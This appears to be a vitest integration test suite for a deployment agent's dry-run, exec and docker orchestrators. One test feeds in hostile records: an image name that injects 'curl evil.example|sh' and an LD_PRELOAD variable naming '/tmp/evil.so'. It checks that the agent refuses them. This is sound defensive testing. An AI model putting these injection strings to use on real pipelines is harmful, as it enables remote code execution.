/**
 * The agent end to end, in-process against a real `hsp serve`: events from the real cable,
 * records over real REST, and the real dry-run, exec and docker orchestrators (the exec one
 * running a real hook process, the docker one talking to a fake Docker Engine on a unix
 * socket), counted by a thin wrapper.
 */
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Agent } from '../../../src/agent/agent.js';
import { startHealthServer } from '../../../src/agent/health.js';
import { DockerOrchestrator } from '../../../src/agent/orchestrators/docker.js';
import { DryRunOrchestrator } from '../../../src/agent/orchestrators/dry-run.js';
import { ExecOrchestrator } from '../../../src/agent/orchestrators/exec.js';
import type { Orchestrator } from '../../../src/agent/orchestrator.js';
import type { Instance, Platform } from '../../../src/index.js';
import { FakeDocker } from '../../helpers/fake-docker.js';
import { useMarketplace, type TestUser } from '../../helpers/marketplace.js';
import { deployableBuild, LogRecorder, startAgent, writeHook, type Catalogue, type LogEntry, type RunningAgent } from './harness.js';

const m = useMarketplace({ cable: { pingIntervalMs: 200 } });
const running: Agent[] = [];
afterEach(async () => {
  for (const agent of running.splice(0)) await agent.stop(1_000);
});

let owner: TestUser;
let catalogue: Catalogue;
let tmp: string;
beforeAll(async () => {
  owner = await m.user('Olive Operator');
  catalogue = await deployableBuild(m);
  tmp = await mkdtemp(join(tmpdir(), 'hsp-agent-'));
});
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

async function newPlatform(name: string): Promise<Platform> {
  return owner.client.platforms.create(owner.id, { name: `${name}-${Math.random().toString(36).slice(2, 8)}` });
}

async function start(platform: Platform, orchestrator: Orchestrator = new DryRunOrchestrator(() => {}), logs?: LogRecorder): Promise<RunningAgent> {
  const started = await startAgent(owner, platform, orchestrator, logs ? { logs } : {});
  running.push(started.agent);
  return started;
}

function create(platform: Platform, launch_bindings: Record<string, unknown> = {}, buildId = catalogue.buildId): Promise<Instance> {
  return owner.client.instances.create(owner.id, platform.id, { build_id: buildId, launch_bindings });
}

function retrieve(platform: Platform, id: string): Promise<Instance> {
  return owner.client.instances.retrieve(owner.id, platform.id, id);
}

/**
 * Waits until the agent has handled the update event its own write (logged as `written`)
 * caused. That event may arrive before the write's answer does, but it is handled after the
 * write's run (one run per instance at a time), and ends in `instance.unchanged`, or in
 * `deploy.refused` again for an instance that cannot be deployed.
 */
async function reportEchoed({ logs, agent }: RunningAgent, instanceId: string, written: LogEntry): Promise<void> {
  const outcome = written.event === 'report.cleared' ? 'deploy.refused' : 'instance.unchanged';
  await logs.waitFor((e) => e.event === outcome && e.instance === instanceId, `the echo of ${written.event} for ${instanceId}`, logs.entries.indexOf(written) + 1);
  await agent.settled();
}

describe('the agent with the dry-run orchestrator', () => {
  it('deploys a new instance and reports it; its own report converges to nothing', async () => {
    const platform = await newPlatform('dry');
    const agent = await start(platform);
    const from = agent.logs.length;
    const instance = await create(platform, { environment: { GREETING: 'bonjour' }, note: 'kept' });

    const done = await agent.logs.waitFor((e) => e.event === 'deploy.done' && e.instance === instance.id, 'the deploy', from);
    const record = await retrieve(platform, instance.id);
    expect(record.deployed_at).not.toBeNull();
    expect(record.launch_bindings).toEqual({
      environment: { GREETING: 'bonjour' },
      note: 'kept',
      deployment: { orchestrator: 'dry-run', fingerprint: done.fingerprint, workloads: [], endpoints: [{ task: 'web', port: 8080, host: '127.0.0.1', url: 'http://127.0.0.1:8080' }] },
    });
    expect(done).toMatchObject({ report: 'written', orchestrator: 'dry-run' });

    await reportEchoed(agent, instance.id, done);
    expect(agent.orchestrator.deploys.get(instance.id)).toBe(1);
    expect(agent.logs.of('deploy.started', instance.id)).toHaveLength(1);
  });

  it("redeploys once when the operator changes the instance's environment, keeping the change", async () => {
    const platform = await newPlatform('update');
    const agent = await start(platform);
    const instance = await create(platform, { environment: { GREETING: 'hello' } });
    const first = await agent.logs.waitFor((e) => e.event === 'deploy.done' && e.instance === instance.id, 'the first deploy');
    await reportEchoed(agent, instance.id, first);

    const deployed = await retrieve(platform, instance.id);
    const from = agent.logs.length;
    await owner.client.instances.update(owner.id, platform.id, instance.id, { launch_bindings: { ...deployed.launch_bindings, environment: { GREETING: 'hola' } } });
    const second = await agent.logs.waitFor((e) => e.event === 'deploy.done' && e.instance === instance.id, 'the redeploy', from);
    expect(second.fingerprint).not.toBe(first.fingerprint);
    await reportEchoed(agent, instance.id, second);

    const record = await retrieve(platform, instance.id);
    expect(record.launch_bindings).toMatchObject({ environment: { GREETING: 'hola' }, deployment: { fingerprint: second.fingerprint } });
    expect(agent.orchestrator.deploys.get(instance.id)).toBe(2);
  });

  it('removes an instance deleted from the marketplace, once', async () => {
    const platform = await newPlatform('delete');
    const agent = await start(platform);
    const instance = await create(platform);
    await agent.logs.waitFor((e) => e.event === 'deploy.done' && e.instance === instance.id, 'the deploy');
    await owner.client.instances.delete(owner.id, platform.id, instance.id);
    await agent.logs.waitFor((e) => e.event === 'remove.done' && e.instance === instance.id, 'the removal');
    await agent.agent.settled();
    expect(agent.orchestrator.removes.get(instance.id)).toBe(1);
  });

  it('deploys at start what was created while it was away, and a restart redeploys nothing', async () => {
    const platform = await newPlatform('away');
    const instances = await Promise.all([create(platform), create(platform), create(platform)]);
    const first = await start(platform);
    await first.agent.settled();
    for (const instance of instances) {
      expect(first.orchestrator.deploys.get(instance.id)).toBe(1);
      expect((await retrieve(platform, instance.id)).deployed_at).not.toBeNull();
    }
    expect(first.logs.of('reconcile.done')[0]).toMatchObject({ instances: 3 });
    await first.agent.stop(1_000);

    // Dry-run cannot list what runs, so the reports on the records say it: all unchanged.
    const second = await start(platform);
    await second.agent.settled();
    expect(second.orchestrator.totalDeploys).toBe(0);
  });

  it('refuses hostile records with a log line and runs nothing', async () => {
    const platform = await newPlatform('hostile');
    const agent = await start(platform);
    const shell = await deployableBuild(m, { repository: 'example/app;curl${IFS}evil.example|sh', tag: '1.0.0' });
    const badImage = await create(platform, {}, shell.buildId);
    const badName = await create(platform, { environment: { 'LD_PRELOAD=x;': '/tmp/evil.so' } });

    const image = await agent.logs.waitFor((e) => e.event === 'deploy.refused' && e.instance === badImage.id, 'the refused image');
    const name = await agent.logs.waitFor((e) => e.event === 'deploy.refused' && e.instance === badName.id, 'the refused variable');
    expect(image.reason).toMatch(/^Instance [0-9a-f-]{36}: build [0-9a-f-]{36}: the image reference .* is not/);
    expect(name.reason).toBe(`Instance ${badName.id}: launch_bindings.environment has the variable name "LD_PRELOAD=x;", which is not [A-Z0-9_]+.`);
    expect(JSON.stringify(agent.logs.entries)).not.toContain('/tmp/evil.so');
    await agent.agent.settled();
    expect(agent.orchestrator.totalDeploys).toBe(0);
    expect((await retrieve(platform, badName.id)).deployed_at).toBeNull();
  });

  it('clears deployed_at when an update makes an instance undeployable, and does not loop on its own write', async () => {
    const platform = await newPlatform('broken');
    const agent = await start(platform);
    const instance = await create(platform);
    const done = await agent.logs.waitFor((e) => e.event === 'deploy.done' && e.instance === instance.id, 'the deploy');
    await reportEchoed(agent, instance.id, done);
    const from = agent.logs.length;
    await owner.client.instances.update(owner.id, platform.id, instance.id, { launch_bindings: { environment: { 'bad name': 'x' } } });
    const cleared = await agent.logs.waitFor((e) => e.event === 'report.cleared' && e.instance === instance.id, 'deployed_at cleared', from);
    // The clearing is an update too: handled, and nothing more is written.
    await reportEchoed(agent, instance.id, cleared);
    expect((await retrieve(platform, instance.id)).deployed_at).toBeNull();
    expect(agent.logs.of('report.cleared', instance.id)).toHaveLength(1);
    expect(agent.orchestrator.deploys.get(instance.id)).toBe(1);
  });

  it('answers /healthz and /readyz: ready only once subscribed and reconciled', async () => {
    const platform = await newPlatform('health');
    const logs = new LogRecorder();
    const { Agent } = await import('../../../src/agent/agent.js');
    const agent = new Agent({ client: owner.client, platform, orchestrator: new DryRunOrchestrator(() => {}), log: logs.log, events: { pingIntervalMs: 200 } });
    const health = await startHealthServer(0, agent);
    const get = async (path: string) => {
      const res = await fetch(`http://127.0.0.1:${health.port}${path}`);
      return { status: res.status, body: (await res.json()) as Record<string, unknown> };
    };
    try {
      expect(await get('/readyz')).toEqual({ status: 503, body: { status: 'not ready', reason: "Not subscribed to the platform's events." } });
      expect((await get('/healthz')).status).toBe(503);
      await agent.start();
      running.push(agent);
      await logs.waitFor((e) => e.event === 'reconcile.done', 'the first reconcile');
      expect(await get('/healthz')).toEqual({ status: 200, body: { status: 'ok' } });
      expect(await get('/readyz')).toEqual({ status: 200, body: { status: 'ready' } });
      expect((await get('/metrics')).status).toBe(404);
      await agent.stop(1_000);
      expect(await get('/readyz')).toEqual({ status: 503, body: { status: 'not ready', reason: 'The agent is stopping.' } });
    } finally {
      await health.close();
    }
  });
});

describe('stopping', () => {
  it('lets an in-flight deploy finish and report, and starts nothing new', async () => {
    const platform = await newPlatform('drain');
    const agent = await start(platform);
    let release!: () => void;
    agent.orchestrator.gate = new Promise((resolve) => (release = resolve));
    const started = agent.orchestrator.nextDeploy();
    const inFlight = await create(platform);
    expect(await started).toBe(inFlight.id);

    const stopping = agent.agent.stop(10_000);
    await agent.logs.waitFor((e) => e.event === 'agent.stopping', 'the stop');
    const late = await create(platform);
    release();
    expect(await stopping).toBe(true);

    expect((await retrieve(platform, inFlight.id)).deployed_at).not.toBeNull();
    expect(agent.orchestrator.deploys.has(late.id)).toBe(false);
    expect(agent.logs.of('agent.stopped')).toEqual([expect.objectContaining({ drained: true })]);
  });

  it('aborts what is still running when the grace period is over', async () => {
    const platform = await newPlatform('abort');
    const agent = await start(platform);
    agent.orchestrator.gate = new Promise(() => {});
    const started = agent.orchestrator.nextDeploy();
    const instance = await create(platform);
    await started;
    expect(await agent.agent.stop(50)).toBe(false);
    expect(agent.logs.of('deploy.aborted', instance.id)).toHaveLength(1);
    expect((await retrieve(platform, instance.id)).deployed_at).toBeNull();
  });
});

describe('the agent with the exec orchestrator', () => {
  it('runs the hook: deploy, report of its output, update, removal; a restart lists and redeploys nothing', async () => {
    const state = await mkdtemp(join(tmp, 'exec-'));
    const hook = await writeHook(state);
    const platform = await newPlatform('exec');
    const exec = () => new ExecOrchestrator({ argv: [process.execPath, hook, state], platformId: platform.id, log: () => {} });
    const agent = await start(platform, exec());

    const instance = await create(platform, { environment: { GREETING: 'hi' } });
    const done = await agent.logs.waitFor((e) => e.event === 'deploy.done' && e.instance === instance.id, 'the deploy');
    expect(await readFile(join(state, `${instance.id}.running`), 'utf8')).toBe(done.fingerprint);
    const record = await retrieve(platform, instance.id);
    expect(record.launch_bindings.deployment).toEqual({ orchestrator: 'exec', fingerprint: done.fingerprint, workloads: [{ pid: expect.any(Number), image: 'example/app:1.0.0' }] });
    await reportEchoed(agent, instance.id, done);

    const from = agent.logs.length;
    await owner.client.instances.update(owner.id, platform.id, instance.id, { launch_bindings: { ...record.launch_bindings, environment: { GREETING: 'ciao' } } });
    const redeployed = await agent.logs.waitFor((e) => e.event === 'deploy.done' && e.instance === instance.id, 'the redeploy', from);
    expect(await readFile(join(state, `${instance.id}.running`), 'utf8')).toBe(redeployed.fingerprint);
    await reportEchoed(agent, instance.id, redeployed);
    await agent.agent.stop(1_000);

    const again = await start(platform, exec());
    await again.agent.settled();
    expect(again.orchestrator.totalDeploys).toBe(0);
    expect(again.logs.of('reconcile.done')[0]).toMatchObject({ instances: 1, workloads: 1, orphans: 0 });

    await owner.client.instances.delete(owner.id, platform.id, instance.id);
    await again.logs.waitFor((e) => e.event === 'remove.done' && e.instance === instance.id, 'the removal');
    expect((await readdir(state)).filter((n) => n.endsWith('.running'))).toEqual([]);
    const calls = (await readFile(join(state, 'calls.log'), 'utf8')).trim().split('\n');
    expect(calls.filter((c) => c.startsWith('deploy'))).toEqual([`deploy ${instance.id}`, `deploy ${instance.id}`]);
    expect(calls.filter((c) => c.startsWith('remove'))).toEqual([`remove ${instance.id}`]);
  });

  it('removes at start a workload whose instance was deleted while the agent was away', async () => {
    const state = await mkdtemp(join(tmp, 'orphan-'));
    const hook = await writeHook(state);
    const platform = await newPlatform('orphan');
    const exec = () => new ExecOrchestrator({ argv: [process.execPath, hook, state], platformId: platform.id, log: () => {} });
    const first = await start(platform, exec());
    const instance = await create(platform);
    await first.logs.waitFor((e) => e.event === 'deploy.done' && e.instance === instance.id, 'the deploy');
    await first.agent.stop(1_000);

    await owner.client.instances.delete(owner.id, platform.id, instance.id);
    const second = await start(platform, exec());
    await second.agent.settled();
    expect(second.logs.of('reconcile.done')[0]).toMatchObject({ instances: 0, workloads: 1, orphans: 1 });
    expect(second.orchestrator.removes.get(instance.id)).toBe(1);
    expect((await readdir(state)).filter((n) => n.endsWith('.running'))).toEqual([]);
  });
});

describe('the agent with the docker orchestrator', () => {
  it('runs the build as labelled containers, reports them, replaces them on a change and removes them on undeploy', async () => {
    const docker = await FakeDocker.start();
    try {
      const platform = await newPlatform('docker');
      const orchestrator = await DockerOrchestrator.connect({ dockerHost: docker.host, platformId: platform.id, log: () => {} });
      const agent = await start(platform, orchestrator);

      const instance = await create(platform, { environment: { GREETING: 'hi' } });
      const done = await agent.logs.waitFor((e) => e.event === 'deploy.done' && e.instance === instance.id, 'the deploy');
      await reportEchoed(agent, instance.id, done);
      const [container] = docker.running();
      expect(docker.running()).toHaveLength(1);
      expect(container!.Config).toMatchObject({
        Image: 'example/app:1.0.0',
        Labels: { 'org.hl7.hsp.instance': instance.id, 'org.hl7.hsp.build': catalogue.buildId, 'org.hl7.hsp.platform': platform.id },
      });
      expect(container!.Config.Env).toEqual(expect.arrayContaining(['PORT=8080', 'GREETING=hi']));
      expect(container!.HostConfig).toMatchObject({ Memory: 256 * 1024 * 1024, RestartPolicy: { Name: 'unless-stopped' } });
      const report = (await retrieve(platform, instance.id)).launch_bindings.deployment as { workloads: { container_id: string }[] };
      expect(report.workloads.map((w) => w.container_id)).toEqual([container!.Id]);

      const from = agent.logs.length;
      await owner.client.instances.update(owner.id, platform.id, instance.id, { launch_bindings: { environment: { GREETING: 'ciao' } } });
      const redeployed = await agent.logs.waitFor((e) => e.event === 'deploy.done' && e.instance === instance.id, 'the redeploy', from);
      await reportEchoed(agent, instance.id, redeployed);
      expect(docker.running()).toHaveLength(1);
      expect(docker.running()[0]!.Config.Env).toContain('GREETING=ciao');
      expect(docker.containers.get(container!.Id)).toBeUndefined();
      expect(docker.callsTo('POST', /^\/containers\/[^/]+\/stop$/).map((c) => c.query.t)).toEqual(['15']);

      await owner.client.instances.delete(owner.id, platform.id, instance.id);
      await agent.logs.waitFor((e) => e.event === 'remove.done' && e.instance === instance.id, 'the removal');
      expect(docker.containers.size).toBe(0);
      await orchestrator.close();
    } finally {
      await docker.close();
    }
  });
});
